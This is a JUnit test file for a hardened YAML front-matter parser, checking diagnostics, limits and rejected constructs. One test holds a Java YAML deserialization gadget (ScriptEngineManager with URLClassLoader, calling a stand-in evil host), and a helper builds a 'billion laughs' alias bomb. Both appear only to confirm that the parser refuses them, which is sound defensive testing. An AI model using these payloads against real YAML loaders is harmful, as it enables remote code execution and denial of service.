package org.briefkit.yaml;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import org.briefkit.diag.Diagnostic;
import org.briefkit.diag.SourceText;
import org.junit.jupiter.api.Test;

class SafeYamlTest {
    private static SafeYaml.Result parse(String yaml) {
        return SafeYaml.parse(new SourceText("f.md", "---\n" + yaml + "---\n"), yaml, 2, YamlLimits.DEFAULT);
    }

    private static List<String> messages(SafeYaml.Result r) {
        return r.diagnostics().stream().map(Diagnostic::headline).toList();
    }

    @Test
    void aLoaderUsedAgainAfterBrokenOrOversizedYamlReadsTheNextFileWhole() {
        YamlLimits small = new YamlLimits(1_000, 3, 2, 100);
        for (int round = 0; round < 2; round++) {
            assertTrue(messages(parse("a: [1, 2\nb: c\n")).get(0).contains("error"));
            assertFalse(SafeYaml.parse(new SourceText("g.md", "x"), "a: [[[[[1]]]]]\n", 1, small).ok());
            assertEquals("c", ((YScalar) ((YMap) parse("a: b\nb: c\n").root()).get("b")).text());
            YMap m = (YMap) SafeYaml.parse(new SourceText("g.md", "x"), "a: [1]\n", 1, small).root();
            assertEquals("1", ((YScalar) ((YList) m.get("a")).items().get(0)).text());
        }
    }

    @Test
    void scalarsKeepTheTextAsWritten() {
        YMap m = (YMap) parse("a: 8.40\nb: NO\nc: 012\nd: 2012-12-03\ne: 'x'\n").root();
        assertEquals("8.40", ((YScalar) m.get("a")).text());
        assertEquals("NO", ((YScalar) m.get("b")).text());
        assertEquals("012", ((YScalar) m.get("c")).text());
        assertEquals("2012-12-03", ((YScalar) m.get("d")).text());
        assertFalse(((YScalar) m.get("e")).plain());
    }

    @Test
    void positionsAreLinesOfTheFile() {
        YMap m = (YMap) parse("title: x\nproposals: [A, B]\n").root();
        YList list = (YList) m.get("proposals");
        assertEquals(3, list.items().get(1).line());
        assertEquals(16, list.items().get(1).column());
        assertEquals(3, m.field("proposals").keyLine());
    }

    @Test
    void duplicateKeysAreErrorsAtTheSecondKey() {
        SafeYaml.Result r = parse("title: a\nsummary: s\ntitle: b\n");
        assertEquals(List.of("f.md:4:1: error: duplicate key 'title' (first set on line 2)"), messages(r));
    }

    @Test
    void javaTagsAreRefusedWithoutConstructingAnything() {
        SafeYaml.Result r = parse("x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.invalid/\"]]]]\n");
        assertNull(r.root());
        assertEquals(List.of("f.md:2:4: error: YAML tag '!!javax.script.ScriptEngineManager' is not allowed"), messages(r));
        assertEquals(List.of("f.md:2:4: error: YAML tag '!local' is not allowed"), messages(parse("x: !local y\n")));
    }

    private static String bomb(char last) {
        StringBuilder y = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char prev = 'a';
        for (char c = 'b'; c <= last; c++) {
            y.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                y.append(i == 0 ? "" : ",").append('*').append(prev);
            }
            y.append("]\n");
            prev = c;
        }
        return y.toString();
    }

    @Test
    void aliasBombWithManyAliasesIsRefusedByCount() {
        SafeYaml.Result r = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> parse(bomb('j')));
        assertNull(r.root());
        assertEquals(List.of("f.md:2:1: error: YAML has too many aliases (*name)"), messages(r));
    }

    @Test
    void aliasBombWithFewAliasesIsRefusedBySize() {
        SafeYaml.Result r = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> parse(bomb('f')));
        assertNull(r.root());
        assertEquals(1, r.diagnostics().size());
        assertTrue(messages(r).get(0).contains("YAML expands to more than 20000 values"), messages(r).toString());
    }

    @Test
    void deepNestingIsAnError() {
        String deep = "a: " + "[".repeat(200) + "]".repeat(200) + "\n";
        SafeYaml.Result r = parse(deep);
        assertNull(r.root());
        assertEquals(List.of("f.md:2:1: error: YAML is nested too deeply"), messages(r));
    }

    @Test
    void tabsGetAClearMessage() {
        SafeYaml.Result r = parse("title: x\nlist:\n\t- a\n");
        assertEquals(1, r.diagnostics().size());
        Diagnostic d = r.diagnostics().get(0);
        assertEquals("tab character in YAML", d.message());
        assertEquals(4, d.line());
        assertTrue(d.hint().contains("spaces"));
    }

    @Test
    void colonInAValueGetsAQuotingHint() {
        Diagnostic d = parse("title: Russia: New Article\n").diagnostics().get(0);
        assertEquals("f.md:2:14: error: unexpected ':' in a value", d.headline());
        assertTrue(d.hint().contains("quotes"));
        assertEquals("title: Russia: New Article", d.sourceLine());
    }

    @Test
    void textAfterAQuotedValueGetsAHint() {
        Diagnostic d = parse("title: \"Sending party pays\" would raise costs\n").diagnostics().get(0);
        assertEquals("f.md:2:29: error: unexpected text after a quoted value", d.headline());
        assertTrue(d.hint().contains("other kind of quotes"));
    }

    @Test
    void unclosedQuoteIsReported() {
        assertEquals("a quoted value is not closed", parse("title: \"abc\nsummary: x\n").diagnostics().get(0).message());
    }

    @Test
    void mergeKeysAndSelfReferencesAreRefused() {
        assertTrue(messages(parse("base: &b {x: 1}\nother:\n  <<: *b\n")).get(0).contains("merge keys"));
        SafeYaml.Result r = parse("a: &a [1, *a]\n");
        assertNull(r.root());
        assertFalse(r.diagnostics().isEmpty());
    }

    @Test
    void emptyDocumentHasNoRoot() {
        SafeYaml.Result r = parse("");
        assertNull(r.root());
        assertTrue(r.ok());
    }

    @Test
    void nullScalars() {
        YMap m = (YMap) parse("a:\nb: ~\nc: null\nd: 'null'\n").root();
        assertTrue(((YScalar) m.get("a")).isNull());
        assertTrue(((YScalar) m.get("b")).isNull());
        assertTrue(((YScalar) m.get("c")).isNull());
        assertFalse(((YScalar) m.get("d")).isNull());
        assertInstanceOf(YScalar.class, m.get("d"));
    }
}
